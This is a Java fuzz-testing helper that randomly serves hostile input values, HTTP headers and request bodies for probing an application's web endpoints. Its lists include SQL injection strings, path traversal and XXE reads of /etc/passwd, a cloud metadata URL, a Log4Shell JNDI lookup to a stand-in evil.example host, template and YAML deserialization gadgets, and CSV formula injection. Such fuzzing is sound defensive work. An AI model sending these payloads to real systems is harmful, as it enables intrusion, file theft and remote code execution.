package vn.phusa.app.shell.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** Values, headers and bodies that nobody should send. */
final class Hostile {

  private static final List<String> VALUES =
      List.of(
          "",
          " ",
          "\u0001\u0007\u001b[31m",
          "\t\r\n",
          "\u202e\u200b\ufeff",
          "\ud83d\ude00\u0301\u0323",
          "Đặng Thị Ẩn",
          "x".repeat(3_000),
          "Ắ".repeat(500),
          "' OR '1'='1",
          "'; DROP TABLE dataset; --",
          "\" UNION SELECT version() --",
          "ten LIKE '%'",
          "ten = 'a' AND (ma > 1 OR NOT (ma IN (1,2)))",
          "ma BETWEEN 1 AND",
          "CASEI(ten) = CASEI('AN') AND S_INTERSECTS(ten,POINT(1 1))",
          "count(*),max(ten),min(ma)",
          "-ten,+ma,-ten",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "/etc/passwd",
          "file:///etc/passwd",
          "http://169.254.169.254/latest/meta-data",
          "//evil.example/x",
          "javascript:alert(1)",
          "<script>alert(1)</script>",
          "${7*7}#{7*7}{{7*7}}@{x}",
          "${jndi:ldap://evil.example/x}",
          "__${T(Runtime).getRuntime()}__::x",
          "=cmd|' /C calc'!A0",
          "a\r\nSet-Cookie: x=y",
          "%00",
          "%s%n%x{0}{1}'{'",
          "{",
          "[1,{\"a\":null}]",
          "-1",
          "0",
          "2147483648",
          "-9223372036854775808",
          "9223372036854775808",
          "1e400",
          "1e-400",
          "9".repeat(400),
          "NaN",
          "Infinity",
          "0x10",
          "٣",
          "1.234,5",
          "2025-02-31",
          "0000-00-00",
          "+999999999-12-31",
          "-999999999-01-01T00:00:00Z",
          "T25/2024",
          "true",
          "null",
          "H61.10",
          "so-y-te.ma-tran",
          "a.b.c",
          ".",
          "*",
          "AAAA",
          "LTEuMA");

  /** Bytes that are no UTF-8, and the like: for addresses only, as they stand. */
  private static final List<String> ENCODED =
      List.of("%C3%28", "%ED%A0%80", "%F5%80%80%80", "%00", "%2e%2e%2f%2e%2e", "%252e%252e", "%7F");

  private static final List<List<String>> HEADERS =
      List.of(
          List.of("Accept", "application/json;q=0,*/*;q=abc"),
          List.of("Accept", "image/png"),
          List.of("Accept", "text/csv, application/vnd.apache.parquet"),
          List.of("Accept", "nonsense"),
          List.of("Accept-Language", "zz-ZZ-x-" + "y".repeat(300)),
          List.of("Accept-Language", "en"),
          List.of("If-None-Match", "W/\"x\", \"\", *"),
          List.of("If-Match", "\"999999999999\""),
          List.of("If-Modified-Since", "yesterday"),
          List.of("Range", "bytes=9-1,-0"),
          List.of("Origin", "null"),
          List.of("Referer", "http://evil.example/%zz"),
          List.of("X-Forwarded-Host", "evil.example"),
          List.of("X-Forwarded-For", "' OR 1=1 --"),
          List.of("X-Forwarded-Proto", "javascript"),
          List.of("X-HTTP-Method-Override", "DELETE"),
          List.of("Forwarded", "for=\"_x\";host=evil.example;proto=file"),
          List.of("HX-Request", "true"),
          List.of("HX-Current-URL", "javascript:x"),
          List.of("Authorization", "Bearer " + "x".repeat(200)),
          List.of("Authorization", "Basic !!!"),
          List.of("Authorization", "Basic Og=="),
          List.of("traceparent", "00-zz"),
          List.of("Sec-Fetch-Site", "cross-site"));

  private static final List<String> TYPES =
      List.of(
          "application/json",
          "application/json;charset=utf-16",
          "application/x-www-form-urlencoded",
          "application/x-www-form-urlencoded;charset=nope",
          "multipart/form-data",
          "multipart/form-data; boundary=x",
          "multipart/form-data; boundary=" + "b".repeat(200),
          "application/octet-stream",
          "application/yaml",
          "application/xml",
          "text/csv;charset=utf-8",
          "text/plain");

  private static final List<String> BODIES =
      List.of(
          "",
          "{",
          "[]",
          "null",
          "\"\\ud800\"",
          "1e9999",
          "[".repeat(3_000),
          "{\"a\":".repeat(2_000),
          "a=%zz&b=%00&=&&",
          "--x\r\n",
          "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../a.csv\"\r\n\r\na\r\n",
          "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\"\r\n\r\n\r\n--x--\r\n",
          "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.xlsx\"\r\n\r\nPK\u0003\u0004"
              + "x\r\n--x--\r\n",
          "apiVersion: v3.0.2\nkind: DataContract\nschema: [&a [*a]]\n",
          "a: !!javax.script.ScriptEngineManager []\n",
          "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
          "ma,ten\n1,\"An\n2,Bình\"x\n",
          "\u0000\u0001\u0002");

  private final RandomGenerator random;

  Hostile(RandomGenerator random) {
    this.random = random;
  }

  String value() {
    return one(VALUES);
  }

  String encoded() {
    return one(ENCODED);
  }

  List<String> header() {
    return one(HEADERS);
  }

  String type() {
    return one(TYPES);
  }

  String body() {
    return one(BODIES);
  }

  /** In so many of a hundred cases. */
  boolean in(int hundred) {
    return random.nextInt(100) < hundred;
  }

  <T> T one(List<T> list) {
    return list.get(random.nextInt(list.size()));
  }
}
